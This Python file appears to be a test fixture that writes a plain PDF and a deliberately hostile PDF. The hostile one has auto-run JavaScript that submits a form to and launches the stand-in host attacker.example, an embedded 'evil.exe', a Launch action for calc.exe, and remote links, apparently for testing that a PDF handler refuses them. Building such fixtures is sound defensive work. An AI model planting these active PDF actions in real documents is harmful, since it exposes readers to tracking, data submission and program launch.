"""PDF files written by hand: a plain one, and one that tries everything that PDF files can do."""

PLAIN = ("Tessera", "Second page")
# What a program that follows them would fetch or run.
ADDRESS = "https://attacker.example/pixel"
SCRIPT = f"app.alert('ran'); this.submitForm('{ADDRESS}'); app.launchURL('{ADDRESS}');"


def plain(*texts: str) -> bytes:
    """A page for each text, in large letters."""
    return _file([], *texts)


def hostile() -> bytes:
    """Scripts at opening and on the page, links over all of it, a form, a file, a program."""
    catalog = (
        "/OpenAction << /S /JavaScript /JS 9 0 R >> "
        "/AA << /WC << /S /JavaScript /JS 9 0 R >> >> "
        "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS 9 0 R >>] >> "
        "/EmbeddedFiles << /Names [(evil.exe) 10 0 R] >> >> "
        "/AcroForm << /Fields [12 0 R] /NeedAppearances true >> "
    )
    box = "/Rect [0 0 400 300] "
    page = (
        "/AA << /O << /S /JavaScript /JS 9 0 R >> >> /Annots ["
        f"<< /Type /Annot /Subtype /Link {box} /A << /S /URI /URI ({ADDRESS}) >> >> "
        f"<< /Type /Annot /Subtype /Link {box} /A << /S /Launch /F (calc.exe) >> >> "
        f"<< /Type /Annot /Subtype /Link {box} /A << /S /GoToR /F ({ADDRESS}) /D [0 /Fit] >> >> "
        f"<< /Type /Annot /Subtype /FileAttachment {box} /FS 10 0 R >> "
        "12 0 R] "
    )
    more = {
        9: _stream("", SCRIPT),
        10: "<< /Type /Filespec /F (evil.exe) /EF << /F 11 0 R >> >>",
        11: _stream("/Type /EmbeddedFile", "MZ"),
        12: "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (go) "
        f"{box} /A << /S /SubmitForm /F ({ADDRESS}) >> >>",
    }
    return _file([catalog, page], "Hostile", more=more)


def _file(extra: list[str], *texts: str, more: dict[int, str] | None = None) -> bytes:
    catalog, page = extra or ("", "")
    first = 13
    kids = " ".join(f"{first + 2 * at} 0 R" for at in range(len(texts)))
    objects = {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalog}>>",
        2: f"<< /Type /Pages /Kids [{kids}] /Count {len(texts)} >>",
        3: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold >>",
        **(more or {}),
    }
    for at, text in enumerate(texts):
        number = first + 2 * at
        objects[number] = (
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] "
            f"/Resources << /Font << /F 3 0 R >> >> /Contents {number + 1} 0 R {page}>>"
        )
        objects[number + 1] = _stream("", f"BT /F 48 Tf 40 130 Td ({text}) Tj ET")
    return _join(objects)


def _stream(entries: str, content: str) -> str:
    return f"<< {entries} /Length {len(content)} >>\nstream\n{content}\nendstream"


def _join(objects: dict[int, str]) -> bytes:
    written = b"%PDF-1.7\n"
    places = {}
    for number, content in sorted(objects.items()):
        places[number] = len(written)
        written += f"{number} 0 obj\n{content}\nendobj\n".encode()
    size = max(objects) + 1
    table = "".join(
        f"{places[number]:010} 00000 n \n" if number in places else "0000000000 65535 f \n"
        for number in range(size)
    )
    end = f"xref\n0 {size}\n{table}trailer << /Size {size} /Root 1 0 R >>\nstartxref\n"
    return written + f"{end}{len(written)}\n%%EOF\n".encode()
